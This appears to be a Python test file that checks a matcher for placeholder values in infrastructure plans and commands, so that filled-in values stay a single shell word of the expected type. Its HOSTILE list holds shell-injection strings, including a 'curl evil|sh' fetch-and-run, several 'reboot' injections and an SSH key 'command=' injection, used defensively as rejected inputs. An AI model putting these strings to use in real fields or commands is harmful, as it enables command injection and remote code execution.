"""Values that only apply can know: what may be filled in for them, in a field and in a command."""

from __future__ import annotations

import shlex
import subprocess

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reconciler.unknowns import PUBLIC_KEY, RELEASE, TYPES, WORD, known_after_apply, matches

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHello+world/0="
GOOD = {
    PUBLIC_KEY: KEY,
    RELEASE: "0123456789abcdef",
    "a number": "42",
    "a SHA-256": "5f" * 32,
    WORD: "8.5-1.el_x",
}
HOSTILE = [
    "'restrict,command=\"/w\" x' ; curl evil|sh ; echo ' y'",
    "x'; reboot; '",
    "$(reboot)",
    "`reboot`",
    "a b",
    "a\nb",
    "-rf",
    "a;b",
    "",
    f"{KEY} comment",
    f'command="x" {KEY}',
    f"{KEY}\n{KEY}",
    "0123456789ABCDEF ",
    "0123456789abcdef\n",
    "42\n",
]


@pytest.mark.parametrize("kind", TYPES)
def test_an_unknown_takes_what_is_of_its_type_and_nothing_else(kind: str) -> None:
    unknown = known_after_apply("h keypair /k", "public", kind)
    for other, value in GOOD.items():
        fits = (
            kind == other or (kind == WORD and other != PUBLIC_KEY) or (kind, other) == (RELEASE, "a SHA-256")
        )
        assert matches(unknown, value) is fits, other
        assert (
            matches(f"run {shlex.quote(f'before {unknown}')}", f"run {shlex.quote(f'before {value}')}")
            is fits
        )
        assert matches(f"run {shlex.quote(unknown)} now", f"run {shlex.quote(value)} now") is fits
    assert matches(unknown, unknown)
    for value in HOSTILE:
        assert not matches(unknown, value), value
        assert not matches(f"run {shlex.quote(unknown)}", f"run {value}"), value
        assert not matches(f"run '{unknown}'", f"run '{value}'"), value


@given(st.sampled_from(list(TYPES)), st.text(max_size=40))
def test_what_is_filled_in_stays_one_word_of_a_shell(kind: str, value: str) -> None:
    unknown = known_after_apply("h kind /k", "field", kind)
    template = f"printf '%s,' {shlex.quote(f'x {unknown}')} {shlex.quote(unknown)}"
    filled = template.replace(unknown, value)
    if matches(template, filled):
        said = subprocess.run(["sh", "-c", filled], capture_output=True, text=True, check=True).stdout
        assert said == f"x {value},{value},"


def test_an_unknown_of_no_known_type_takes_nothing() -> None:
    for unknown in ("(known after apply: x)", "(known after apply: x of y, anything)"):
        assert matches(unknown, unknown)
        assert not matches(unknown, "word")
